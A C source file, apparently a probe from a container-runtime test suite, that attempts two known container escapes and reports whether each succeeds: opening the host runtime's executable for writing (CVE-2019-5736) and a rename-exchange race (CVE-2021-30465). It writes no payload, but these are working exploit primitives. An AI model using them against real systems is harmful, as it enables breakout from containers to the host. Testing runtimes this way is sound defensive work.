// What a hostile container or a hostile image's author does, one attempt a verb; prints as inside.c does.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static int outcome(const char *verb, int failed) {
    if (failed) printf("%s !%s\n", verb, strerrorname_np(errno));
    else printf("%s ok\n", verb);
    return 0;
}

// A process whose first argument says that it is the runtime, started once more by its container.
static int find_runtime(void) {
    DIR *processes = opendir("/proc");
    int found = 0;
    for (struct dirent *entry; processes && !found && (entry = readdir(processes));) {
        if (!isdigit((unsigned char)entry->d_name[0]) || atoi(entry->d_name) == getpid()) continue;
        char path[300], words[64] = {0};
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
        FILE *stream = fopen(path, "re");
        if (stream && fread(words, 1, sizeof words - 1, stream) > 0 && !strcmp(words, "/proc/self/exe")) found = atoi(entry->d_name);
        if (stream) fclose(stream);
    }
    if (processes) closedir(processes);
    return found;
}

// `grab FIFO`: CVE-2019-5736. The runtime waits for a reader of FIFO; hold its executable, let it end, open it for writing.
static int grab(char **words) {
    char path[64];
    int process = 0, held = -1;
    for (double end = now() + 5; !process && now() < end;) process = find_runtime();
    snprintf(path, sizeof path, "/proc/%d/exe", process);
    if (process) held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0) return outcome("grab", 1);
    int reader = open(words[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC), writer = -1;
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    for (double end = now() + 2; writer < 0 && now() < end; usleep(1000)) {
        writer = open(path, O_WRONLY | O_CLOEXEC);
        if (writer < 0 && errno != ETXTBSY) break;
    }
    outcome("grab", writer < 0);
    close(reader);
    return 0;
}

// `exchange ONE OTHER SECONDS`: CVE-2021-30465. Two names keep changing places.
static int exchange(char **words) {
    for (double end = now() + atof(words[2]); now() < end;)
        if (renameat2(AT_FDCWD, words[0], AT_FDCWD, words[1], RENAME_EXCHANGE) < 0) return outcome("exchange", 1);
    return outcome("exchange", 0);
}

int main(int count, char **words) {
    setvbuf(stdout, NULL, _IOLBF, 4096);
    if (count == 3 && !strcmp(words[1], "grab")) return grab(words + 2);
    if (count == 5 && !strcmp(words[1], "exchange")) return exchange(words + 2);
    fprintf(stderr, "attack: grab FIFO | exchange ONE OTHER SECONDS\n");
    return 99;
}
